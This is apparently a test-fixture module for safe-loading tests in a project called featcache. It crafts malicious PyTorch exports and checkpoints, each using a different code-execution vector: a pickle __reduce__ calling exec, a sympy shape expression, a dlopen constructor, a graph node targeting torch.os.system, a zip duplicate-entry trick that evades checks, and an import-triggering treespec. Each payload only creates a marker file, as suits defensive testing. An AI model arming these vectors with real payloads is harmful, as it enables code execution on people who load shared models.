"""Files from a stranger, crafted from a genuine featcache export or checkpoint: each would create the
file `marker` if whatever loads it ran code from it. Used by tests/test_safe_loading.py, and by hand
against older loaders (see the issue notes)."""
from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path


class RunsCode:
    """Pickles to a call of exec: unpickling it (torch.load with weights_only=False) creates `marker`."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return exec, (f"open({self.marker!r}, 'w').close()",)


def rewritten(source: Path, out: Path, change) -> Path:
    """A copy of the zip `source` with change(name, data) -> data (None drops the entry) applied to each
    entry, plus the entries change.extra (a dict of name: bytes) adds."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as copy:
        for info in original.infolist():
            data = change(info.filename, original.read(info))
            if data is not None:
                copy.writestr(info.filename, data)
        for name, data in getattr(change, "extra", {}).items():
            copy.writestr(name, data)
    return out


def pickled_payload(source: Path, out: Path, marker: Path) -> Path:
    """One weight marked use_pickle, its payload a pickle that runs code."""
    table_name = next(n for n in zipfile.ZipFile(source).namelist() if n.endswith("model_weights_config.json"))
    table = json.loads(zipfile.ZipFile(source).read(table_name))
    first = next(iter(table["config"].values()))
    first["use_pickle"] = True
    payload = pickle.dumps(RunsCode(marker))

    def change(name, data):
        if name == table_name:
            return json.dumps(table).encode()
        if name.endswith("/data/weights/" + first["path_name"]):
            return payload
        return data
    return rewritten(source, out, change)


def code_in_sample_inputs(source: Path, out: Path, marker: Path) -> Path:
    """Sample inputs that weights_only=True refuses and weights_only=False would run."""
    import torch

    buffer = io.BytesIO()
    torch.save(((RunsCode(marker),), {}), buffer)
    return rewritten(source, out, lambda name, data: buffer.getvalue() if name.endswith("data/sample_inputs/model.pt")
                     else data)


def code_in_a_shape_expression(source: Path, out: Path, marker: Path) -> Path:
    """A shape expression that sympy.sympify would evaluate as Python."""
    def change(name, data):
        if name.endswith("models/model.json"):
            text = data.decode()
            start = text.index('"expr_str": "') + len('"expr_str": "')
            end = text.index('"', start)
            return (text[:start] + f"__import__('pathlib').Path({str(marker)!r}).touch() or 1" + text[end:]).encode()
        return data
    return rewritten(source, out, change)


def shared_library_that_runs_code(marker: Path) -> bytes:
    """A shared library whose constructor creates `marker` when it is loaded (dlopen); with no C compiler
    on the machine, bytes that only look like one."""
    import shutil
    import subprocess
    import tempfile

    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler is None:
        return b"\x7fELF not really"
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "ran.c"
        source.write_text('#include <stdio.h>\n__attribute__((constructor)) static void ran(void) '
                          f'{{ FILE *f = fopen({json.dumps(str(marker))}, "w"); if (f) fclose(f); }}\n')
        subprocess.run([compiler, "-shared", "-fPIC", "-o", f"{folder}/ran.so", str(source)], check=True)
        return (Path(folder) / "ran.so").read_bytes()


def aotinductor_entry(source: Path, out: Path, marker: Path) -> Path:
    """An AOTInductor model in data/aotinductor/: torch.export.load extracts it and dlopens its shared
    library, whose constructor runs (shown on 2ea39b0's loader: the marker appears)."""
    prefix = zipfile.ZipFile(source).namelist()[0].split("/", 1)[0]

    def change(name, data):
        return data
    change.extra = {f"{prefix}/data/aotinductor/model/model.wrapper.so": shared_library_that_runs_code(marker),
                    f"{prefix}/data/aotinductor/model/model.wrapper_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}'}
    return rewritten(source, out, change)


def a_target_outside_aten(source: Path, out: Path, marker: Path) -> Path:
    """A node whose target resolves by getattr from torch to something that runs a shell command."""
    def change(name, data):
        if name.endswith("models/model.json"):
            model = json.loads(data)
            node = model["graph_module"]["graph"]["nodes"][0]
            node["target"] = "torch.os.system"
            node["inputs"] = [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}]
            return json.dumps(model).encode()
        return data
    return rewritten(source, out, change)


def two_programs(source: Path, out: Path, marker: Path) -> Path:
    """models/model.json twice: first one whose shape expression runs code, then the genuine one. zipfile
    (and so a check reading through it) sees the last; torch's reader (miniz, a binary search over the
    sorted names) can see the first: entries are padded until it does."""
    import torch

    with zipfile.ZipFile(source) as original:
        infos = [(info.filename, original.read(info)) for info in original.infolist()]
    prefix = infos[0][0].split("/", 1)[0]
    evil_file = code_in_a_shape_expression(source, out.with_name(out.name + ".evil"), marker)
    evil = zipfile.ZipFile(evil_file).read(f"{prefix}/models/model.json")
    for pad in range(64):
        with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as copy:
            for k in range(pad % 8):
                copy.writestr(f"{prefix}/data/weights/weight_{800 + k}", b"")
            for name, data in infos:
                if name.endswith("models/model.json"):
                    copy.writestr(name, evil)
                    for k in range(pad // 8):
                        copy.writestr(f"{prefix}/data/weights/weight_{900 + k}", b"")
                copy.writestr(name, data)
        if bytes(torch._C.PyTorchFileReader(str(out)).get_record("models/model.json")) == evil:
            evil_file.unlink()
            return out
    raise AssertionError("no layout made torch's reader see the first copy")


def a_call_spec_that_imports(source: Path, out: Path, marker: Path) -> Path:
    """A calling convention (in_spec) naming an enum in a module: torch's treespec_loads imports it. The
    module (written beside `out`, importable when its folder is on the path) creates `marker`; any module
    with an effect on import would do (the standard library's antigravity opens a web browser)."""
    module = f"featcache_marker_{abs(hash(str(marker))) % 10**8}"
    (out.parent / f"{module}.py").write_text(f"open({str(marker)!r}, 'w').close()\nimport enum\n"
                                             "X = enum.Enum('X', 'A')\n")

    def change(name, data):
        if name.endswith("models/model.json"):
            model = json.loads(data)
            signature = next(call["signature"] for call in model["graph_module"]["module_call_graph"]
                             if call.get("signature"))
            spec = json.loads(signature["in_spec"])
            spec[1]["children_spec"][1]["context"] = json.dumps([{"__enum__": True, "fqn": f"{module}:X", "name": "A"}])
            signature["in_spec"] = json.dumps(spec)
            return json.dumps(model).encode()
        return data
    return rewritten(source, out, change)


def checkpoint_that_runs_code(path: Path, marker: Path) -> Path:
    """checkpoint.pt holding an object whose unpickling runs code."""
    import torch

    torch.save({"epoch": 0, "history": {}, "model": {}, "optimizer": {}, "generator": RunsCode(marker),
                "options": {}, "carry": {}}, path)
    return path


EXPORT_VECTORS = {"pickled payload": pickled_payload, "sample inputs": code_in_sample_inputs,
                  "shape expression": code_in_a_shape_expression, "aotinductor entry": aotinductor_entry,
                  "target outside aten": a_target_outside_aten, "two programs": two_programs,
                  "call spec that imports": a_call_spec_that_imports}
